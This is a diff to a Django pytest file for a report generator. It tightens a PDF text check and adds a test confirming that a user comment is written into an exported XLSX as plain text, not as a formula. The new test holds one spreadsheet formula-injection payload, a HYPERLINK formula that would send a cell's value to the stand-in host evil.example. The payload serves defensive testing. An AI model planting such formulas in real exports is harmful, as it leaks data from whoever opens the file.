@@ -6,6 +6,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from conftest import skip_or_fail_in_ci
 from django.core.exceptions import ValidationError
 from django.core.management import call_command
 from openpyxl import load_workbook
@@ -61,10 +62,11 @@ def test_report_in_three_formats_with_the_fixture_numbers(year_2018, users, tmp_
     assert [(r[2], r[3]) for r in hist] == [(2017, None), (2018, 18), (2019, None), (2020, None)]
     pdf = paths["pdf"].read_bytes()
     assert pdf.startswith(b"%PDF")
-    if shutil.which("pdftotext"):
-        out = subprocess.run(["pdftotext", str(paths["pdf"]), "-"], capture_output=True,
-                             text=True, check=True).stdout
-        assert "2018年度工作自评报告" in out.replace("\n", "") and "18 名" in out
+    if not shutil.which("pdftotext"):
+        skip_or_fail_in_ci("pdftotext is not installed (apt-get install poppler-utils)")
+    out = subprocess.run(["pdftotext", str(paths["pdf"]), "-"], capture_output=True,
+                         text=True, check=True).stdout
+    assert "2018年度工作自评报告" in out.replace("\n", "") and "18 名" in out
 
 
 def test_command_line_report(year_2018, tmp_path, capsys):
@@ -138,3 +140,24 @@ def test_assessment_page_comments_generate_finalise(year_2018, users, client):
     d = client.get(f"/plan/reports/{report.pk}/pdf/")
     assert d.status_code == 200 and b"".join(d.streaming_content).startswith(b"%PDF")
     assert Path(report_dir() / report.files["pdf"]["path"]).stat().st_mode & 0o222 == 0
+
+
+def test_a_comment_that_looks_like_a_formula_is_text_in_the_xlsx(year_2018, users, client,
+                                                                   tmp_path):
+    """A partner's comment (from the assessment page) reaches the .xlsx as text (tabular.safe)."""
+    import re
+    import zipfile
+
+    evil = '=HYPERLINK("http://evil.example/?c="&A1,"详见")'
+    client.force_login(users["leadership"])
+    assert client.post("/plan/assessment/2018/comments/", {"text": evil}).status_code == 302
+    data = report_data(plan=year_2018, year=2018, user=users["county_admin"],
+                       as_of=datetime.date(2019, 1, 15))
+    path = build_report(data, out_dir=tmp_path, formats=("xlsx",))["xlsx"]
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(r"<f[ >]", z.read(name).decode()), name
+    ws = load_workbook(path)["评议意见"]
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
